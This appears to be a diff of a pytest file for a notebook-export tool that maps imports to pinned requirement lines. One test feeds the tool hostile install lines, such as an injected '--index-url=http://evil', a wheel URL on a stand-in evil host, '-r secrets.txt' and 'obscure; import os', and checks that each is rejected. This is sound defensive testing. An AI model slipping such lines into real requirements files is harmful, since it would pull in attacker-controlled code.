@@ -1,4 +1,4 @@
-"""Imports become the requirements that install them."""
+"""Imports become pinned requirements under the names that install them."""
 
 from __future__ import annotations
 
@@ -9,31 +9,88 @@ import pytest
 from nbexport import requirements
 
 
-def test_owners_are_those_that_the_standard_library_finds() -> None:
-    known = metadata.packages_distributions()
-    roots = sorted(root for root in known if root.isidentifier())
-    assert len(roots) > 20
-    assert {root: sorted(set(known[root])) for root in roots} == {
-        root: sorted(set(requirements._owners(root))) for root in roots
+@pytest.fixture
+def installed(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
+    """A made-up environment: distribution → version."""
+    versions = {
+        "torch": "2.13.0+cpu",
+        "numpy": "2.1.0",
+        "scikit-learn": "1.6.0",
+        "skops": "0.13.0",
+        "opencv-python": "4.11.0.86",
+        "pillow": "11.0.0",
+        "pyyaml": "6.0.2",
+        "loguru": "0.7.3",
     }
+    owners = {
+        "torch": ["torch"],
+        "numpy": ["numpy"],
+        "sklearn": ["scikit-learn"],
+        "cv2": ["opencv-python"],
+        "PIL": ["Pillow"],
+        "yaml": ["PyYAML"],
+    }
+
+    def version(name: str) -> str:
+        if name not in versions:
+            raise metadata.PackageNotFoundError(name)
+        return versions[name]
+
+    monkeypatch.setattr(requirements, "_owners", lambda root: owners.get(root, []))
+    monkeypatch.setattr(requirements.metadata, "version", version)
+    return versions
+
+
+def test_names_and_versions(installed: dict[str, str]) -> None:
+    found = requirements.pins(["sklearn.linear_model", "cv2", "PIL.Image", "yaml", "json", "os.path"], extra=["loguru"])
+    assert found.lines == (
+        "loguru==0.7.3",
+        "opencv-python==4.11.0.86",
+        "pillow==11.0.0",
+        "pyyaml==6.0.2",
+        "scikit-learn==1.6.0",
+        "skops==0.13.0",
+    )
+    assert found.unknown == ()
+
+
+def test_local_labels_are_dropped_and_what_a_bundle_needs_is_added(installed: dict[str, str]) -> None:
+    found = requirements.pins(["torch.nn", "torch"])
+    assert found.lines == ("numpy==2.1.0", "safetensors", "torch==2.13.0")
+    assert found.unknown == ("safetensors",)
+
+
+def test_what_is_not_installed_is_noted_and_not_guessed(installed: dict[str, str]) -> None:
+    found = requirements.pins(["obscure.part", "skimage.io", ".helpers"])
+    assert found.lines == ("scikit-image",)
+    assert found.unknown == ("obscure", "scikit-image")
 
 
 @pytest.mark.parametrize(
-    ("module", "line"),
+    ("written", "line"),
     [
-        ("sklearn.linear_model", "scikit-learn"),
-        ("dateutil.parser", "python-dateutil"),
-        ("torch", "torch"),
-        ("typing_extensions", "typing-extensions"),
+        ("obscure==1.2", "obscure==1.2"),
+        ("obscure >= 1, <2", "obscure>=1,<2"),
+        ("Obscure[all]~=1.0", "Obscure[all]~=1.0"),
     ],
 )
-def test_modules_are_pinned_under_the_name_that_installs_them(module: str, line: str) -> None:
-    version = metadata.version(line).partition("+")[0]
-    assert f"{line}=={version}" in requirements.pins([module]).lines
+def test_the_notebook_s_own_pins_are_taken(installed: dict[str, str], written: str, line: str) -> None:
+    found = requirements.pins(["obscure"], installs=[written])
+    assert found.lines == (line,)
+    assert found.unknown == ()
 
 
-def test_what_is_not_installed_is_said_and_the_notebook_s_own_pin_is_kept() -> None:
-    pins = requirements.pins(["no_such_module", "os.path", ".sibling"])
-    assert (pins.lines, pins.unknown) == ((), ("no_such_module",))
-    asked = requirements.pins(["no_such_module"], installs=["no-such-module >= 2"])
-    assert (asked.lines, asked.unknown) == (("no-such-module>=2",), ())
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "obscure\n--index-url=http://evil",
+        "obscure @ http://evil/x.whl",
+        "-r secrets.txt",
+        "obscure; import os",
+        "obscure==",
+    ],
+)
+def test_a_hostile_install_line_never_reaches_the_file(installed: dict[str, str], hostile: str) -> None:
+    found = requirements.pins(["obscure"], installs=[hostile])
+    assert found.lines == ()
+    assert found.unknown == ("obscure",)
